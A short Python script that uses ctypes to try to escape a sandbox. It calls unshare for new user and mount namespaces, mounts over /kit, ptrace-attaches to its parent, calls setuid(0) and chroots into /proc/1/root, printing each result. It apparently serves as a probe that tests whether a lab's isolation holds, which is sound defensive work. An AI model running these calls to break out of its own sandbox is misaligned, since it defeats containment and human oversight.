"""Breaks the isolation from below: new namespaces, mounts and tracing of the parent, by calls into the C library."""

NAMED = "ctypes"
EVERY_LAB = True

import ctypes
import os

C = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, PTRACE_ATTACH = 0x10000000, 0x00020000, 16
print("unshare", C.unshare(CLONE_NEWUSER | CLONE_NEWNS))
print("mount", C.mount(b"none", b"/kit", b"tmpfs", 0, None))
print("ptrace", C.ptrace(PTRACE_ATTACH, os.getppid(), None, None))
print("setuid", C.setuid(0), "chroot", C.chroot(b"/proc/1/root"))
